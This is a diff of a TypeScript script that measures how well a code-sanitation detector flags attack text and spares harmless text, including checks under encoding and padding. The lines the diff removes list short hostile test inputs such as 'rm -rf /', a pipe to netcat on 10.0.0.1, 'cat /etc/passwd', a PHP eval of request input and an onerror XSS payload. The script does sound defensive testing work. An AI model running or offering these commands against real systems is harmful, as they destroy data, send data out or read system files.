@@ -1,189 +1,132 @@
-// `npm run accuracy -- DIR [--verbose]`: measures code_sanitation on corpora of attacks and of harmless text (JSON lines).
-// Prints the ratio of detected attacks per family and of flagged harmless texts; exits with 1 if a threshold is missed.
-import { existsSync, readdirSync, readFileSync } from "node:fs";
-import { basename, join } from "node:path";
+// `npm run accuracy -- [DIR] [--verbose] [--short]`: measures code_sanitation on corpora of attacks and of harmless text (JSON lines), without DIR on
+// those of this repository. Prints the share of attacks that are found and of harmless texts that are flagged; exits with 1 if a bound is
+// exceeded. --verbose lists the texts that were missed; --short measures fewer texts in every encoding.
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { parseArgs } from "node:util";
 import { compileDetector } from "../src/plugins/code_sanitation/detector.ts";
 import { LANGUAGES } from "../src/plugins/code_sanitation/settings.ts";
 import { ENCODINGS } from "../test/support/encodings.ts";
+import { readCorpora, type Sample } from "./accuracy/corpora.ts";
+import { SPECIFIED } from "./accuracy/specified-examples.ts";
+import { measuredAttacks, measuredHarmless, type Measured } from "./accuracy/thresholds.ts";
 
-interface Sample {
-  readonly text: string;
-  readonly family?: string;
-}
+const OWN_CORPUS = join(import.meta.dirname, "../src/plugins/code_sanitation/corpus");
+/** The share of texts whose verdict must be the same if they are encoded: a text with escapes of its own may be encoded too deeply. */
+const MIN_SAME_VERDICT = 0.99;
+/** In --short mode, this many texts are checked in every encoding. */
+const SHORT_SAMPLES = 500;
+const PROSE = "The weather was fine and the road was long, so we walked until the evening came. ";
+const PADDING = PROSE.repeat(Math.ceil((128 * 1024) / PROSE.length));
+const MAX_SHOWN = 160;
 
-/** Minimum ratio of detected attacks, by file or by file and family. */
-const MIN_DETECTED: Readonly<Record<string, number>> = {
-  "attacks-libinjection sql": 0.95,
-  "attacks-libinjection html": 0.95,
-  "attacks-gotestwaf": 0.9,
-  "attacks-crs": 0.75,
-};
-/** Maximum ratio of flagged texts, by harmless file. */
-const MAX_FLAGGED: Readonly<Record<string, number>> = {
-  "benign-bench": 0,
-  "benign-gotestwaf": 0,
-  "benign-libinjection": 0.01,
-  "benign-arena-hard": 0.01,
-};
-/** The examples of the specification (section 2.8), as a client would send them. */
-const SPECIFIED: Readonly<Record<string, readonly string[]>> = {
-  javascript: [
-    "eval()",
-    "eval('alert(1)')",
-    "Function()",
-    "new Function('return 1')()",
-    "setTimeout('alert(1)', 100)",
-    "element.innerHTML = '<b>x</b>'",
-    "document.write('<p>x</p>')",
-    "<script>alert(1)</script>",
-    '<div onclick="go()">',
-    "button.addEventListener('click', 'alert(1)')",
-  ],
-  python: [
-    "exec()",
-    "exec('import os')",
-    "eval('1+1')",
-    "compile('1+1', 'x', 'eval')",
-    "__import__('os')",
-    "os.system('ls')",
-    "subprocess.Popen(['ls'])",
-  ],
-  php: ["eval($_GET['x'])", "eval()", "system('ls')", "system()"],
-  sql: ["UNION SELECT", "1 UNION SELECT name FROM users", "DROP TABLE", "DROP TABLE users"],
-  shell: [
-    "system('ls')",
-    "exec('ls')",
-    "; rm -rf /",
-    "x && whoami",
-    "x | nc 10.0.0.1 80",
-    "$(whoami)",
-    "x=`id`",
-    "cat /etc/passwd",
-    "echo hello > /tmp/file",
-    "cd /etc",
-    "cd ../..",
-    "chmod 777 file",
-    "chown root:root file.txt",
-  ],
-  java: ["Runtime.exec()", 'Runtime.getRuntime().exec("ls")'],
-  csharp: ["Process.Start()", 'Process.Start("cmd.exe")'],
-  ruby: ["eval()", "eval('1')", "exec('ls')", "exec()"],
-  html: ["<script>", "<script src=//x>", "<img src=x onerror=alert(1)>", "onerror="],
-};
+const { values, positionals } = parseArgs({
+  options: { verbose: { type: "boolean", default: false }, short: { type: "boolean", default: false } },
+  allowPositionals: true,
+});
+const directory = positionals[0] ?? OWN_CORPUS;
+if (!existsSync(directory)) fail(`${directory} does not exist`, 2);
+const corpora = readCorpora(directory);
+if (corpora.length === 0)
+  fail(`${directory} has no file named attacks-*, *-attacks, benign-* or *-harmless.jsonl`, 2);
 
 const detector = compileDetector(LANGUAGES);
 const isFlagged = (text: string): boolean => detector.first(text) !== null;
+const exceeded: string[] = [];
 
-const PROSE = "The weather was fine and the road was long, so we walked until the evening came. ";
-const PADDING = PROSE.repeat(Math.ceil((128 * 1024) / PROSE.length));
-
-const directory = process.argv.slice(2).find((argument) => !argument.startsWith("--"));
-const isVerbose = process.argv.includes("--verbose");
-if (directory === undefined || !existsSync(directory)) {
-  console.error(
-    directory === undefined
-      ? "accuracy: the directory is missing; run npm run accuracy -- DIRECTORY [--verbose]"
-      : `accuracy: ${directory} does not exist`,
-  );
-  process.exit(2);
-}
-const files = readdirSync(directory)
-  .filter((name) => name.endsWith(".jsonl"))
-  .sort();
-if (files.length === 0) {
-  console.error(`accuracy: ${directory} has no .jsonl file`);
-  process.exit(2);
-}
-const missedThresholds: string[] = [];
-
-console.log("Attacks: detected");
-report(
-  "specification",
-  Object.entries(SPECIFIED).flatMap(([family, texts]) => texts.map((text) => ({ text, family }))),
-  1,
+console.log("Attacks: found");
+const specified = Object.entries(SPECIFIED).flatMap(([family, texts]) =>
+  texts.map((text) => ({ text, family })),
 );
-for (const file of files.filter((name) => name.startsWith("attacks"))) {
-  report(basename(file, ".jsonl"), samplesOf(file), MIN_DETECTED[basename(file, ".jsonl")]);
-}
+for (const measured of [
+  { name: "specification", samples: specified, minimum: 1 },
+  ...measuredAttacks(corpora),
+])
+  reportAttacks(measured);
 console.log("\nHarmless texts: flagged");
-for (const file of files.filter((name) => name.startsWith("benign")))
-  reportHarmless(basename(file, ".jsonl"), samplesOf(file));
+for (const measured of measuredHarmless(corpora)) reportHarmless(measured);
 console.log("\nSame verdict if encoded or padded");
-reportEqualVerdicts(files.flatMap(samplesOf));
+reportEqualVerdicts(corpora.flatMap(({ samples }) => samples));
+if (exceeded.length > 0) fail(exceeded.join("; "), 1);
 
-if (missedThresholds.length > 0) {
-  console.error(`\naccuracy: missed ${missedThresholds.join("; ")}`);
-  process.exit(1);
+function fail(message: string, status: number): never {
+  console.error(`\naccuracy: ${message}`);
+  process.exit(status);
 }
 
-function samplesOf(file: string): Sample[] {
-  const lines = readFileSync(join(directory ?? "", file), "utf8").split("\n");
-  return lines.filter((line) => line.trim() !== "").map((line) => JSON.parse(line) as Sample);
-}
-
-function report(name: string, samples: readonly Sample[], minimum: number | undefined): void {
+function reportAttacks({ name, samples, minimum }: Measured): void {
   const missed = samples.filter(({ text }) => !isFlagged(text));
-  for (const family of new Set(samples.map((sample) => sample.family ?? ""))) {
-    const ofFamily = samples.filter((sample) => (sample.family ?? "") === family);
-    const detected = ofFamily.length - missed.filter((sample) => (sample.family ?? "") === family).length;
-    printRatio(`${name} ${family}`, detected, ofFamily.length, MIN_DETECTED[`${name} ${family}`]);
-  }
-  printRatio(name, samples.length - missed.length, samples.length, minimum);
-  if (!isVerbose) return;
-  for (const { family, text } of missed)
-    console.log(`    missed ${family ?? ""}: ${JSON.stringify(text.slice(0, 160))}`);
+  print(name, samples.length - missed.length, samples.length, minimum, undefined);
+  // `all sql` repeats the samples of the files.
+  if (!values.verbose || name.startsWith("all ")) return;
+  for (const { family, text } of missed) console.log(`    missed ${family}: ${shown(text)}`);
 }
 
-function printRatio(name: string, count: number, total: number, minimum: number | undefined): void {
-  const ratio = count / total;
-  const threshold = minimum === undefined ? "" : `   at least ${percent(minimum)}`;
-  console.log(
-    `  ${name.padEnd(30)} ${`${count} of ${total}`.padStart(14)} ${percent(ratio).padStart(8)}${threshold}`,
-  );
-  if (minimum !== undefined && ratio < minimum)
-    missedThresholds.push(`${name} ${percent(ratio)} < ${percent(minimum)}`);
-}
-
-function reportHarmless(name: string, samples: readonly Sample[]): void {
-  const flagged = samples
-    .map(({ text }) => ({ text, finding: detector.first(text) }))
-    .filter(({ finding }) => finding !== null);
-  const ratio = flagged.length / samples.length;
-  const maximum = MAX_FLAGGED[name];
-  const threshold = maximum === undefined ? "" : `   at most ${percent(maximum)}`;
-  console.log(
-    `  ${name.padEnd(30)} ${`${flagged.length} of ${samples.length}`.padStart(14)} ${percent(ratio).padStart(8)}${threshold}`,
-  );
-  for (const { text, finding } of flagged) {
-    if (finding === null) continue;
+function reportHarmless({ name, samples, maximum }: Measured): void {
+  const flagged = samples.flatMap(({ text }) => {
+    const finding = detector.first(text);
+    return finding === null ? [] : [{ text, finding }];
+  });
+  print(name, flagged.length, samples.length, undefined, maximum);
+  if (name.includes(" ")) return;
+  for (const { text, finding } of flagged)
     console.log(
-      `    ${finding.pattern}: ${JSON.stringify(text.slice(Math.max(0, finding.start - 40), finding.end + 40))}`,
+      `    ${finding.pattern}: ${shown(text.slice(Math.max(0, finding.start - 40), finding.end + 40))}`,
     );
-  }
-  if (maximum !== undefined && ratio > maximum)
-    missedThresholds.push(`${name} ${percent(ratio)} > ${percent(maximum)}`);
 }
 
 function reportEqualVerdicts(samples: readonly Sample[]): void {
-  const verdicts = samples.map(({ text }) => isFlagged(text));
-  const encodings = { ...ENCODINGS, "after 128 kB": (text: string) => PADDING + text };
-  for (const [name, encode] of Object.entries(encodings)) {
-    // Padding adds 128 kB to each sample, so check only every eleventh.
-    const step = name.startsWith("after") ? 11 : 1;
-    let checked = 0;
-    let different = 0;
-    for (let index = 0; index < samples.length; index += step) {
-      const text = samples[index]?.text ?? "";
-      checked++;
-      if (isFlagged(encode(text)) === verdicts[index]) continue;
-      different++;
-      if (isVerbose && different <= 40)
-        console.log(`    ${verdicts[index] ? "lost" : "new"}: ${JSON.stringify(text.slice(0, 120))}`);
-    }
-    printRatio(name, checked - different, checked, 1);
-  }
+  const stride = values.short ? Math.max(1, Math.floor(samples.length / SHORT_SAMPLES)) : 1;
+  const checked = samples.filter((_, index) => index % stride === 0);
+  for (const [name, encode] of Object.entries(ENCODINGS)) reportEqualVerdict(name, checked, encode);
+  // Each takes 128 kB.
+  const padded = checked.filter((_, index) => index % 11 === 0);
+  reportEqualVerdict(
+    "after 128 kB of prose",
+    padded,
+    (text) => PADDING + text,
+    (text) => PROSE + text,
+  );
 }
 
-function percent(ratio: number): string {
-  return `${(ratio * 100).toFixed(1)} %`;
+/** Compares the verdicts of two forms of each text. */
+function reportEqualVerdict(
+  name: string,
+  samples: readonly Sample[],
+  encode: (text: string) => string,
+  plain = (text: string) => text,
+): void {
+  const different = samples.filter(({ text }) => isFlagged(encode(text)) !== isFlagged(plain(text)));
+  print(name, samples.length - different.length, samples.length, MIN_SAME_VERDICT, undefined);
+  if (!values.verbose) return;
+  for (const { text } of different.slice(0, 40))
+    console.log(`    ${isFlagged(plain(text)) ? "lost" : "new"}: ${shown(text)}`);
+}
+
+/** Prints a share, and remembers it if it exceeds its bound. */
+function print(
+  name: string,
+  count: number,
+  total: number,
+  minimum: number | undefined,
+  maximum: number | undefined,
+): void {
+  const share = total === 0 ? 0 : count / total;
+  const bound =
+    minimum !== undefined
+      ? `at least ${percent(minimum)}`
+      : maximum !== undefined
+        ? `at most ${percent(maximum)}`
+        : "";
+  const columns = [name.padEnd(30), `${count} of ${total}`.padStart(14), percent(share).padStart(8), bound];
+  console.log(`  ${columns.join("  ")}`.trimEnd());
+  if (share < (minimum ?? 0) || share > (maximum ?? 1)) exceeded.push(`${name} ${percent(share)}, ${bound}`);
+}
+
+function shown(text: string): string {
+  return JSON.stringify(text.slice(0, MAX_SHOWN));
+}
+
+function percent(share: number): string {
+  return `${(share * 100).toFixed(1)} %`;
 }
